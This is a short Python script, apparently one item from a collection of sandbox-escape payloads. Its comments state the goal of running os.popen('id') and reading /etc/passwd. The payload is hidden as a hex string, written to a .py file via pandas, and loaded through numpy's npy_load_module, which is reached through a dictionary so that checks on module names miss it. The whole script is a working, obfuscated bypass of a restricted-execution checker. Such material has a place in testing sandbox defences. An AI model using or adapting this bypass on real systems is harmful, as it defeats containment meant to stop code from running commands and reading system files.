# source: numpy 1.24 numpy/compat/py3k.py npy_load_module; README "where the chain is hidden (behind a function, in a container)"
# family: module attribute chain not rooted at a module name (container / function return / lambda default / walrus) reaching numpy.compat
# goal: load a written .py as module -> os.popen('id'), open('/etc/passwd')
import json
import numpy as np
import pandas as pd

src = bytes.fromhex("696d706f7274206f730a52203d206f732e706f70656e2827696427292e726561642829202b206f70656e28272f6574632f70617373776427292e7265616428295b3a36305d0a").decode()
pd.Series(src.split(chr(10))).to_csv("sx323.py", index=False, header=False, sep="\t")
mods = {"n": np}
m = mods["n"].compat.npy_load_module("sx323", "sx323.py")
print(json.dumps({"evidence": m.R}))
